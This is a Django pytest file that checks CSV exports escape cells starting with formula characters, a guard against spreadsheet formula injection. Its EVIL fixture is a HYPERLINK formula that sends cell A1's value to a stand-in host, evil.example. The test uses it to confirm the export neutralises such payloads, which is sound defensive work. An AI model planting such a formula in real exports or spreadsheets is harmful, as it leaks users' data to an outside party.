"""CSV exports never carry a live spreadsheet formula (issue 12, finding 3): a text cell
that starts with =, +, -, @, tab or carriage return gets a leading apostrophe (OWASP);
numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from reports.tables import csv_text
from tests.factories import CompanyFactory, PlacementFactory, YouthFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_neutralised(start):
    assert csv_text(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_ordinary_text_are_unchanged():
    assert csv_text(-3) == "-3"
    assert csv_text(Decimal("-1.5")) == "-1,5"
    assert csv_text("Netto Gullestrup") == "Netto Gullestrup"
    assert csv_text("a=b") == "a=b"


def test_a_company_named_as_a_formula_is_not_a_formula_in_the_csv(
    manager_client, organisation, caseworker
):
    company = CompanyFactory(organisation=organisation, name=EVIL, cvr="29189609")
    youth = YouthFactory(organisation=organisation, caseworker=caseworker)
    PlacementFactory(
        organisation=organisation,
        youth=youth,
        company=company,
        starts_on=timezone.localdate().replace(month=1, day=1),
    )
    response = manager_client.get(reverse("reports:csv", args=["companies"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
